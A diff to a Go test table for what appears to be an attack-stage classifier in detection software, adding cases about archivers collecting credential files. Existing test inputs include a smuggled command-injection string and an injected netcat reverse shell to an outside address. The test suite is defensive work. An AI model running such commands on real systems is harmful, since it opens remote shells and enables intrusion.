@@ -191,6 +191,8 @@ func TestPlace(t *testing.T) {
 		{"web root script write", PlaceInput{Default: StageWebshellUpload, Kind: parser.KindRename, InChannel: true}, StageWebshellUpload},
 		{"credential read in channel", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, InChannel: true}, StageCommandAndControl},
 		{"credential read by web user", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, WebUser: true}, StageSuspiciousSpawn},
+		{"credential file read by tar in a channel: collected into an archive", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, InChannel: true, Archiver: true}, StageExfiltrationImpact},
+		{"an archiver writing is no collection", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileWrite, WebUser: true, Archiver: true}, StageSuspiciousSpawn},
 		{"command-injection probe", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "ping -c 1 127.0.0.1;echo inj-$((6*7))", WebServer: true, Probe: true}, StageInitialAccess},
 		{"injected reverse shell is a spawn", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "ping -c 1 x;nc -e /bin/sh 1.2.3.4 1", WebServer: true, Probe: true}, StageSuspiciousSpawn},
 		{"fixed", PlaceInput{Default: StageInitialAccess, Fixed: true, Kind: exec, Command: "crontab -", InChannel: true}, StageInitialAccess},
